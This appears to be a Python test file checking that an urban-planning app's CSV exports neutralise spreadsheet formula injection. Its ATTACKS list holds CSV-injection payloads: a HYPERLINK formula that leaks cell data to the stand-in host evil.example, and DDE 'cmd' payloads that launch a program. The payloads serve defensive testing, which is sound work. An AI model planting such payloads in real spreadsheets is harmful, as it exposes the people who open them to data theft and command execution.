"""Spreadsheet exports: no text cell can start a formula in Excel (OWASP CSV injection); numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
import tomllib
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from urban_plan import frame, tables

ROOT = Path(__file__).resolve().parents[2]
RISKY = ("=", "+", "-", "@", "\t", "\r")
ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
]


def read_csv(data: bytes) -> list[list[str]]:
    """What Excel's importer sees: the BOM-marked UTF-8 text split by Python's csv reader."""
    assert data.startswith(b"\xef\xbb\xbf")  # Excel on Chinese Windows needs the BOM to read UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def feature(fid: str, name: str, *, source: str = "", note: str = "", progress: Any = None) -> dict[str, Any]:
    return {
        "type": "Feature",
        "properties": {
            "id": fid,
            "name_zh": name,
            "name_en": name,
            "layer": "projects",
            "status": "in_progress",
            "progress": progress,
            "source": source,
            "note": note,
        },
        "geometry": {"type": "Point", "coordinates": [117.17, 36.98]},
    }


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_formula_like_names_sources_and_notes_reach_the_csv_as_plain_text(lang: str) -> None:
    features = [feature(f"p{i}", attack, source=attack, note=attack, progress=40) for i, attack in enumerate(ATTACKS)]
    features.append(feature("plain", "黄河大道", source="区住建局", note="-", progress=None))
    shown = frame.collection_frame({"type": "FeatureCollection", "features": features}, "projects")
    table = tables.feature_table(shown, lang)

    rows = read_csv(tables.csv_bytes(table))

    assert rows[0] == list(table.columns)
    assert len(rows) == len(features) + 1
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(RISKY), f"formula-leading cell in the CSV: {cell!r}"
    names = [row[0] for row in rows[1:]]
    assert names[: len(ATTACKS)] == ["'" + attack for attack in ATTACKS]  # the text itself is kept, only guarded
    assert names[-1] == "黄河大道"
    note_column = list(table.columns).index(tables.headers(lang)["note"])
    assert rows[-1][note_column] == "'-"


def test_numbers_stay_numbers_and_only_text_cells_are_prefixed() -> None:
    table = pd.DataFrame(
        {
            "change": [-3.5, 12.0, None],
            "count": [-2, 0, 7],
            "text": ["-3.5", "+86 531 1234", "ok"],
            "mixed": [-1, "=1+1", "a"],
        }
    )
    rows = read_csv(tables.csv_bytes(table))
    assert rows[1:] == [
        ["-3.5", "-2", "'-3.5", "-1"],
        ["12.0", "0", "'+86 531 1234", "'=1+1"],
        ["", "7", "ok", "a"],
    ]


def test_risky_column_headers_are_guarded_too() -> None:
    rows = read_csv(tables.csv_bytes(pd.DataFrame({"=cmd()": ["x"]})))
    assert rows[0] == ["'=cmd()"]


def test_every_spreadsheet_export_in_the_app_goes_through_the_one_guarded_helper() -> None:
    """Pages, UI helpers and the package: no CSV or Excel writer except tables.csv_bytes."""
    writers = re.compile(r"\.to_csv\(|\.to_excel\(|csv\.writer\(|csv\.DictWriter\(")
    offenders = []
    for folder in ("app_pages", "ui", "src/urban_plan"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            text = path.read_text(encoding="utf-8")
            for match in writers.finditer(text):
                if path.name == "tables.py" and "def csv_bytes" in text:
                    continue
                offenders.append(f"{path.relative_to(ROOT)}: {match.group(0)}")
    assert offenders == []
    assert "tables.csv_bytes(" in (ROOT / "app_pages" / "table.py").read_text(encoding="utf-8")


def test_streamlits_own_unguarded_table_export_is_switched_off() -> None:
    """st.dataframe's toolbar writes its CSV in the browser with no formula guard (checked in Streamlit 1.67's
    DataFrame bundle): the history, upload and table pages show editor-written text there, so it stays off."""
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True
